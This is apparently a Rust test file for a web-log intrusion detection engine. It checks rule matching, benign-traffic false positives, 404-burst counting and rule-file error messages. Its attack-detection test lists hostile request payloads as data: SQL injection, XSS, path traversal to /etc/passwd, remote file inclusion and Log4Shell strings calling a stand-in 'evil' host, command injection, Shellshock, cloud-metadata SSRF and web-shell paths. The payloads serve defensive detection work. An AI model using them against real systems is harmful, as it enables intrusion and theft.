use jaga_decode::{decode, UserDecoders};

use super::*;

fn access(url: &str, agent: &str, status: u16) -> String {
    format!(
        r#"203.0.113.7 - - [23/Nov/2026:03:24:25 +0000] "GET {url} HTTP/1.1" {status} 612 "-" "{agent}""#
    )
}

fn ids(rules: &RuleSet, line: &str) -> Vec<String> {
    let fields = decode(line, &UserDecoders::default());
    let mut state = FrequencyState::default();
    rules
        .evaluate(&fields, 0, &mut state)
        .into_iter()
        .map(|m| m.id)
        .collect()
}

#[test]
fn builtin_rules_compile() {
    let rules = builtin().unwrap();
    assert_eq!(rules.len(), 16);
}

#[test]
fn the_documented_sql_injection() {
    let rules = builtin().unwrap();
    let fields = decode(
        &access("/users/?id=SELECT+*+FROM+users", "curl/7.88.1", 200),
        &UserDecoders::default(),
    );
    let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
    assert_eq!(matches.len(), 1);
    assert_eq!(matches[0].id, "93100");
    assert_eq!(matches[0].level, 7);
    assert_eq!(matches[0].payload.as_deref(), Some("=select * from"));
    assert_eq!(matches[0].payload_field.as_deref(), Some("url"));
}

#[test]
fn attacks_are_detected() {
    let rules = builtin().unwrap();
    let cases = [
        (
            "/item?id=1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--",
            "x",
            "93100",
        ),
        ("/item?id=1'+AND+SLEEP(5)--+", "x", "93100"),
        ("/item?id=1%20or%201=1", "x", "93100"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "x", "93110"),
        (
            "/p?x=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "x",
            "93110",
        ),
        ("/download?file=../../../../etc/passwd", "x", "93120"),
        ("/download?file=%252e%252e%252fetc%252fpasswd", "x", "93120"),
        ("/page?inc=http://evil.example/shell.txt?", "x", "93121"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "x", "93130"),
        ("/ping?host=%0aid", "x", "93130"),
        ("/ping?host=%26%20ping%20-c%203%20127.0.0.1", "x", "93130"),
        ("/get?file=..%c0%af..%c0%afetc/passwd", "x", "93120"),
        (
            "/fetch?url=http://169.254.169.254/latest/meta-data/",
            "x",
            "93140",
        ),
        ("/?q=${jndi:ldap://evil/a}", "x", "93150"),
        ("/", "${jndi:ldap://evil/a}", "93151"),
        ("/cgi-bin/status", "() { :; }; /bin/bash -c 'id'", "93160"),
        ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "93170"),
        ("/uploads/c99.php", "x", "93180"),
        ("/images/x.php?cmd=id", "x", "93181"),
    ];
    for (url, agent, expected) in cases {
        let found = ids(&rules, &access(url, agent, 200));
        assert!(
            found.contains(&expected.to_owned()),
            "{url} / {agent}: {found:?}"
        );
    }
}

#[test]
fn benign_requests_stay_quiet() {
    let rules = builtin().unwrap();
    let benign = [
        "/search?q=how+to+select+a+good+car",
        "/search?q=%22select%22+from+the+menu",
        "/search?q=rock+%26+roll",
        "/docs/v1.2.3/readme.md",
        "/api/users?order=name&limit=10",
        "/static/app.min.js?v=3.1.4",
        "/search?q=o%27reilly+books",
        "/blog/2026/11/what-is-a-union-type",
        "/shop?category=shoes&sort=price-desc",
        "/login?next=%2Fdashboard",
        "/search?q=select+the+best+from+our+range+of+phones",
        "/search?q=cat+food&sort=id",
        "/search?q=ls+command+linux",
        "/search?q=rock+%26+roll+id+card",
        "/forum?post=i%27d+rather+select+from+two+options",
    ];
    for url in benign {
        let found = ids(
            &rules,
            &access(url, "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", 200),
        );
        assert!(found.is_empty(), "{url}: {found:?}");
    }
}

#[test]
fn bursts_of_4xx_from_one_source_fire_once_per_burst() {
    let rules = builtin().unwrap();
    let mut state = FrequencyState::default();
    let mut fired = 0;
    for i in 0..45u64 {
        let fields = decode(
            &access(&format!("/nope{i}"), "x", 404),
            &UserDecoders::default(),
        );
        fired += rules
            .evaluate(&fields, i, &mut state)
            .iter()
            .filter(|m| m.id == "93190")
            .count();
    }
    assert_eq!(fired, 2);
}

#[test]
fn children_allow_lists_cidr_and_negation() {
    let text = r#"
rules:
  - id: "1"
    level: 0
    description: any request
    match:
      method: { any_of: [GET, POST] }
  - id: "2"
    level: 5
    parent: "1"
    description: admin from outside
    match:
      path: { regex: '^/admin' }
      srcip: { cidr: [10.0.0.0/8], not: true }
    allow:
      - user_agent: { literal: healthcheck }
"#;
    let rules = RuleSet::parse(text).unwrap();
    let line = |ip: &str, agent: &str| {
        format!(
            r#"{ip} - - [23/Nov/2026:03:24:25 +0000] "GET /admin/x HTTP/1.1" 200 1 "-" "{agent}""#
        )
    };
    assert_eq!(ids(&rules, &line("203.0.113.9", "curl")), vec!["1", "2"]);
    assert_eq!(ids(&rules, &line("10.1.2.3", "curl")), vec!["1"]);
    assert_eq!(
        ids(&rules, &line("203.0.113.9", "HealthCheck/1.0")),
        vec!["1"]
    );
}

#[test]
fn rule_errors_name_rule_and_line() {
    let text = "rules:\n  - id: \"a\"\n    level: 3\n    description: ok\n    match:\n      url: { regex: 'x' }\n  - id: \"b\"\n    level: 16\n    description: bad level\n    match:\n      url: { regex: '(' }\n";
    let err = RuleSet::parse(text).unwrap_err();
    let text_err = err.to_string();
    assert!(
        text_err.contains("line 7: rule b: level 16 is out of range 0..=15"),
        "{text_err}"
    );
    assert!(
        text_err.contains("line 7: rule b: field 'url': invalid regex"),
        "{text_err}"
    );
    let err = RuleSet::parse("rules:\n  - id: x\n    level: [\n").unwrap_err();
    assert!(err.to_string().starts_with("line "), "{err}");
    let err = RuleSet::parse("rules:\n  - id: c\n    level: 1\n    description: d\n    parent: nope\n    match:\n      url: { literal: x }\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "line 2: rule c: parent 'nope' is not defined before this rule"
    );
}

const USER_FILE_BAD_LEVEL_ON_LINE_2: &str =
    "rules:\n  - id: \"100001\"\n    level: 99\n    description: mine\n    match:\n      url: { literal: x }\n";

#[test]
fn error_in_a_user_file_after_the_builtin_rules_gives_its_own_line() {
    let err = RuleSet::parse_sources(&[
        RuleSource {
            name: Some("built-in web-attacks.yml"),
            text: WEB_RULES,
        },
        RuleSource {
            name: Some("/etc/jaga/mine.yml"),
            text: USER_FILE_BAD_LEVEL_ON_LINE_2,
        },
    ])
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "'/etc/jaga/mine.yml', line 2: rule 100001: level 99 is out of range 0..=15"
    );
}

#[test]
fn syntax_error_names_the_file_and_its_line() {
    let err = RuleSet::parse_sources(&[
        RuleSource {
            name: Some("built-in"),
            text: WEB_RULES,
        },
        RuleSource {
            name: Some("mine.yml"),
            text: "rules:\n  - id: x\n    level: [\n",
        },
    ])
    .unwrap_err();
    assert!(err.to_string().starts_with("'mine.yml', line "), "{err}");
}

#[test]
fn duplicate_id_points_at_the_second_one() {
    let rule =
        "  - id: \"7\"\n    level: 3\n    description: d\n    match:\n      url: { literal: x }\n";
    let err = RuleSet::parse(&format!("rules:\n{rule}{rule}")).unwrap_err();
    assert_eq!(err.to_string(), "line 7: rule 7: duplicate rule id");
}

#[test]
fn pattern_over_the_length_limit_is_refused_naming_rule_and_line() {
    let long = "a".repeat(jaga_decode::pattern::MAX_PATTERN_BYTES + 1);
    let text = format!(
        "rules:\n  - id: \"100002\"\n    level: 5\n    description: long\n    match:\n      url: {{ regex: '{long}' }}\n"
    );
    let err = RuleSet::parse_sources(&[RuleSource {
        name: Some("long.yml"),
        text: &text,
    }])
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "'long.yml', line 2: rule 100002: field 'url': regex refused: the pattern is {} bytes \
             long, more than the limit of {}",
            jaga_decode::pattern::MAX_PATTERN_BYTES + 1,
            jaga_decode::pattern::MAX_PATTERN_BYTES
        )
    );
}

#[test]
fn short_pattern_that_compiles_huge_is_refused_naming_rule() {
    let text = "rules:\n  - id: \"100003\"\n    level: 5\n    description: huge\n    match:\n      url: { regex: '(?u)\\w{300}\\w{300}\\w{300}' }\n";
    let err = RuleSet::parse(text).unwrap_err().to_string();
    assert!(
        err.starts_with("line 2: rule 100003: field 'url': invalid regex:"),
        "{err}"
    );
    assert!(err.contains("exceeds size limit"), "{err}");
}

#[test]
fn rule_file_over_the_size_limit_is_refused_before_parsing() {
    let text = format!(
        "# {}\nrules: []\n",
        "x".repeat(MAX_RULE_FILE_BYTES as usize)
    );
    let err = RuleSet::parse_sources(&[RuleSource {
        name: Some("big.yml"),
        text: &text,
    }])
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "'big.yml': the rule file is {} bytes, more than the limit of {MAX_RULE_FILE_BYTES}",
            text.len()
        )
    );
}

#[test]
fn decoder_error_names_the_file_and_line() {
    let text =
        "decoders:\n  - name: ok\n    prematch: '^ok'\n  - name: broken\n    prematch: '('\n";
    let err = RuleSet::parse_sources(&[RuleSource {
        name: Some("dec.yml"),
        text,
    }])
    .unwrap_err()
    .to_string();
    assert!(
        err.starts_with("'dec.yml', line 4: decoder 'broken': invalid prematch:"),
        "{err}"
    );
}

fn burst_line(srcip: &str, i: u64) -> String {
    format!(r#"{srcip} - - [23/Nov/2026:03:24:25 +0000] "GET /nope{i} HTTP/1.1" 404 0 "-" "x""#)
}

#[test]
fn frequency_windows_keyed_by_source_ip_stay_bounded_and_expire() {
    let rules = builtin().unwrap();
    let mut state = FrequencyState::with_max_keys(64);
    // A scan from ever new source addresses, all within one timeframe.
    for i in 0..1_000u64 {
        let fields = decode(
            &burst_line(&format!("198.51.{}.{}", i / 256, i % 256), i),
            &UserDecoders::default(),
        );
        rules.evaluate(&fields, 1_000, &mut state);
        assert!(
            state.len() <= 64,
            "{} windows after {i} sources",
            state.len()
        );
    }
    assert!(state.evicted_total() >= 1_000 - 64);
    // One source keeps its window while others come and go: a burst from it
    // still fires once it reaches the rule's count.
    let mut fired = 0;
    for i in 0..20u64 {
        let fields = decode(&burst_line("203.0.113.9", i), &UserDecoders::default());
        fired += rules
            .evaluate(&fields, 1_001, &mut state)
            .iter()
            .filter(|m| m.id == "93190")
            .count();
    }
    assert_eq!(fired, 1);
    // Past the 60 s timeframe every window is dropped on the next line.
    let fields = decode(&access("/", "x", 200), &UserDecoders::default());
    rules.evaluate(
        &fields,
        1_000 + 2 * FrequencyState::EXPIRE_EVERY,
        &mut state,
    );
    assert!(
        state.is_empty(),
        "{} windows left after expiry",
        state.len()
    );
}
